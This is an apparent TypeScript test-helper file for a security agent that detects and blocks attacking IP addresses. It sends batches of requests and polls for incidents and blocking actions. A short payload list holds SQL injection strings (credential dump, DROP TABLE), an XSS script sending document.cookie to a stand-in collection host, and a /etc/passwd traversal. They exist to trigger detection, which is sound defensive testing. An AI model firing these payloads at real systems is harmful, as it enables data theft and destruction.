/** What tests wait for at the agent, and what attackers send. */
import { setTimeout as sleep } from "node:timers/promises";
import type { ActionView, IncidentView } from "../../demo/stack/agent-client.ts";
import { eventually } from "../support/eventually.ts";
import type { ClientRequest, Sent, World } from "./world.ts";

/** A loaded machine may take long; a healthy one never needs it. */
export const PATIENCE_MS = 30_000;

const PAYLOADS = [
  "1' UNION SELECT user, password FROM accounts -- ",
  "1' OR '1'='1' -- ",
  "x'; DROP TABLE orders; --",
  "<script>fetch('//collect.example.net/'+document.cookie)</script>",
  "../../../../../../etc/passwd",
];

export const injection = (from: string, i = 0): ClientRequest => ({
  from,
  target: `/search?q=${encodeURIComponent(PAYLOADS[i % PAYLOADS.length]!)}`,
});

const AT_ONCE = 16;

/** Workers look for decisions five times a second. */
const LOOKED_AGAIN_MS = 600;

/** So many requests, some of them at a time; the answers in order. */
export async function sendMany(world: World, count: number, request: (i: number) => ClientRequest): Promise<Sent[]> {
  const answers: Sent[] = [];
  let next = 0;
  const client = async () => {
    for (let i = next++; i < count; i = next++) answers[i] = await world.send(request(i));
  };
  await Promise.all(Array.from({ length: AT_ONCE }, client));
  return answers;
}

export const statusesOf = (answers: Sent[]): number[] => [...new Set(answers.map((answer) => answer.status))].sort();

/**
 * Until all workers answer so: they do not hear of a decision at the same moment. As many at once as here reach every worker, as good as
 * surely, unless one is so busy that the other takes them all; that one has looked for news once more when they are asked again.
 */
export function untilAll<T extends { status: number }>(ask: () => Promise<T>, status: number, who: string): Promise<T> {
  const round = async (count = AT_ONCE) => {
    const answers = await Promise.all(Array.from({ length: count }, ask));
    const other = answers.find((answer) => answer.status !== status);
    if (other) throw new Error(`${who} is answered ${other.status}, not ${status}`);
    return answers[0]!;
  };
  const twice = async () => {
    // Who hammers at a block makes it longer: one at a time until it seems over.
    await round(1);
    await round();
    await sleep(LOOKED_AGAIN_MS);
    return round();
  };
  return eventually(twice, PATIENCE_MS, 250);
}

/** Until a clean request of the address is answered so, by all workers. */
export const untilAnswered = (world: World, request: ClientRequest, status: number): Promise<Sent> =>
  untilAll(() => world.send(request), status, request.from);

export function untilIncident(
  world: World,
  fits: (incident: IncidentView) => boolean,
  what = "such an incident",
): Promise<IncidentView> {
  return eventually(
    async () => {
      const incidents = await world.agent.client.incidents();
      const found = incidents.find(fits);
      if (!found) throw new Error(`${what} is not among ${JSON.stringify(incidents.map(shortly))}`);
      return found;
    },
    PATIENCE_MS,
    100,
  );
}

export function untilAction(
  world: World,
  fits: (action: ActionView) => boolean,
  what = "such an action",
): Promise<ActionView> {
  return eventually(
    async () => {
      const actions = await world.agent.client.actions();
      const found = actions.find(fits);
      if (!found)
        throw new Error(`${what} is not among ${JSON.stringify(actions.map(({ effect: _, ...rest }) => rest))}`);
      return found;
    },
    PATIENCE_MS,
    100,
  );
}

export const isAbout =
  (ip: string) =>
  (incident: IncidentView): boolean =>
    incident.subject_kind === "ip" && incident.subject_value === ip;

export const isOn =
  (ip: string, status: ActionView["status"] = "applied") =>
  (action: ActionView): boolean =>
    action.target.value === ip && action.status === status;

function shortly({ category, subject_kind, subject_value, counts, status }: IncidentView): object {
  return { category, subject: `${subject_kind} ${subject_value}`, requests: counts.requests, status };
}
